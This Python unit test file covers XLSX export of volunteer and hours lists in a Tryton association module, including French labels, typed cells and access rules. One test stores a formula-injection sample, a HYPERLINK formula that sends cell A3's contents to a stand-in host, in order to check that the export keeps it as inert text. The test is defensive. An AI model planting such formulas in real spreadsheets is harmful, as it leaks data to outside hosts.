"""Unit tests of the export of a list to a spreadsheet (XLSX,
connexion_asso's wizard) on the volunteers' lists, mixed into the test
case."""
import datetime as dt
from decimal import Decimal

from trytond.model.exceptions import AccessError
from trytond.pool import Pool
from trytond.tests.test_tryton import with_transaction
from trytond.transaction import Transaction

from connexion_asso.tests.export_tests import export, french_user

from .volunteer_tests import make_mission, make_volunteer

FORMULA = '=HYPERLINK("http://exemple.test/?"&A3,"Voir")'


class ExportTestMixin:

    @with_transaction()
    def test_export_xlsx_volunteers_in_french(self):
        "A list exported: French headers and labels, typed cells, safe text"
        pool = Pool()
        Team = pool.get('connexion.team')
        Volunteer = pool.get('connexion.volunteer')
        dreams, hospitals = Team.create([
                {'name': "Rêves"}, {'name': "Hôpitaux"}])
        anne = make_volunteer("Anne Martin",
            check_expiry=dt.date(2027, 3, 14))
        Volunteer.write([anne], {'teams': [('add', [
                            dreams.id, hospitals.id])]})
        formula = make_volunteer(FORMULA, status='candidate')
        user = french_user('export', 'group_connexion')
        with Transaction().set_user(user.id), \
                Transaction().set_context(language='fr', _check_access=True):
            sheet, values = export(
                'connexion.volunteer', [formula.id, anne.id])
            # The list shows the team names, not a count.
            self.assertEqual(Volunteer(anne.id).team_names, "Hôpitaux, Rêves")
        rows = list(sheet.iter_rows())
        self.assertEqual([c.value for c in rows[0]],
            ["Tiers", "Statut", "Équipes",
                "Fin de validité du casier judiciaire"])
        self.assertTrue(rows[0][0].font.b)
        self.assertEqual(len(rows), 3)
        # In the order of the list.
        candidate, active = rows[1], rows[2]
        self.assertEqual([c.value for c in active[:3]],
            ["Anne Martin", "Actif·ve", "Hôpitaux, Rêves"])
        self.assertEqual(active[3].value, dt.datetime(2027, 3, 14))
        self.assertTrue(active[3].is_date)
        self.assertEqual(active[3].number_format, 'DD/MM/YYYY')
        # A name written as a formula stays text, as typed.
        self.assertEqual(candidate[0].value, FORMULA)
        self.assertEqual(candidate[0].data_type, 's')
        self.assertTrue(candidate[0].quotePrefix)
        self.assertEqual(candidate[1].value, "Candidat·e")
        self.assertIsNone(candidate[3].value)
        self.assertTrue(values['filename'].endswith('.xlsx'))
        self.assertIn("2 lignes exportées", values['summary'])

    @with_transaction()
    def test_export_xlsx_every_record_of_the_search(self):
        """The list exported: every record of its search (the web client
        sends its domain), not only the rows it has loaded"""
        pool = Pool()
        Volunteer = pool.get('connexion.volunteer')
        anne = make_volunteer("Anne Martin")
        bruno = make_volunteer("Bruno Petit")
        make_volunteer("Chloé Roux", status='candidate')
        user = french_user('export', 'group_connexion')
        with Transaction().set_user(user.id), \
                Transaction().set_context(language='fr', _check_access=True):
            # The client loaded Anne only: a page of a longer list.
            sheet, values = export('connexion.volunteer', [anne.id],
                export_domain=[('status', '=', 'active')],
                export_order=[['party.name', 'DESC']])
        header, *rows = sheet.iter_rows(values_only=True)
        self.assertEqual(header[0], "Tiers")
        self.assertEqual([r[0] for r in rows], ["Bruno Petit", "Anne Martin"])
        self.assertIn("2 lignes exportées", values['summary'])

    @with_transaction()
    def test_export_xlsx_numbers(self):
        "Hours and amounts exported as numbers, dates as dates"
        pool = Pool()
        Hours = pool.get('connexion.volunteer.hours')
        anne = make_volunteer("Anne Martin")
        mission = make_mission()
        line, = Hours.create([{'volunteer': anne.id, 'mission': mission.id,
                    'date': dt.date(2026, 3, 1), 'hours': Decimal('2.5'),
                    'distance': 12}])
        user = french_user('export', 'group_connexion')
        with Transaction().set_user(user.id), \
                Transaction().set_context(language='fr', _check_access=True):
            sheet, _ = export('connexion.volunteer.hours', [line.id])
        header, row = list(sheet.iter_rows(values_only=True))
        cells = dict(zip(header, row))
        self.assertEqual(cells["Date"], dt.datetime(2026, 3, 1))
        self.assertEqual(cells["Bénévole"], "Anne Martin")
        self.assertEqual(cells["Heures"], 2.5)
        self.assertEqual(cells["Distance (km)"], 12)
        self.assertEqual(cells["État"], "À valider")

    @with_transaction()
    def test_export_xlsx_only_what_user_reads(self):
        "Outside the staff no export; no record the rules hide"
        pool = Pool()
        Volunteer = pool.get('connexion.volunteer')
        anne = make_volunteer("Anne Martin")
        bruno = make_volunteer("Bruno Petit")
        volunteer = french_user('benevole', 'group_volunteer')
        Volunteer.write([bruno], {'user': volunteer.id})
        with Transaction().set_user(volunteer.id), \
                Transaction().set_context(_check_access=True):
            with self.assertRaises(AccessError):
                export('connexion.volunteer', [bruno.id])
        from connexion_asso.export import export_rows, list_columns
        with Transaction().set_user(volunteer.id), \
                Transaction().set_context(_check_access=True):
            columns = list_columns(Volunteer)
            self.assertEqual(len(list(export_rows(
                            Volunteer, [bruno.id], columns))), 1)
            with self.assertRaises(AccessError):
                list(export_rows(Volunteer, [anne.id], columns))
